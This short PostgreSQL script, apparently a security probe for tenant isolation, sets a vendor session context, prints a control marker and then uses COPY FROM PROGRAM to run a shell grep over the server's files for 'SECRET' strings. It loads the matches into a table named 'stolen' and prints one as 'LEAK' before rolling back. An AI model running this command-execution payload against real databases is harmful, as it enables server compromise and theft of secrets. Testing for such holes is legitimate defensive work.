begin;
set local import.vendor = '2';
select 'CONTROL OK' from import.price_lists where article = 'own article';
create temporary table stolen (line text);
copy stolen from program 'grep -rhaoE SECRETarticle base';
select 'LEAK ' || line from stolen limit 1;
rollback;
